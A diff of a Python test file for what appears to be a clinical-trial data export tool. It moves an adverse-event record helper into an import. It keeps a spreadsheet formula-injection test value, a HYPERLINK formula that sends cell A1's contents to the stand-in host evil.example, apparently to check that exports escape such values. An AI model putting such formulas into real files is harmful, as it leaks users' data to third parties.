@@ -19,32 +19,13 @@ import pandas as pd
 import pyreadstat
 import pytest
 from django.urls import reverse
+from export_reports import ae_report
 from typer.testing import CliRunner
 
 from alstrial.cli import app
 
 KOREAN = "".join(chr(0xAC00 + 7 * i) for i in range(90))
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-
-
-def ae_report(subject, term: str) -> dict:
-    onset = subject.consent_date + timedelta(days=3)
-    return {
-        "term": term,
-        "onset_date": onset,
-        "resolution_date": onset + timedelta(days=2),
-        "grade": "1",
-        "serious": "no",
-        "seriousness_criteria": [],
-        "relatedness_cell_product": "unlikely",
-        "relatedness_bone_marrow_aspiration": "unrelated",
-        "relatedness_lumbar_puncture": "unrelated",
-        "relatedness_spinal_surgery": "",
-        "action_taken": "none",
-        "outcome": "recovered",
-        "awareness_at": "",
-        "narrative": "",
-    }
 
 
 @pytest.fixture
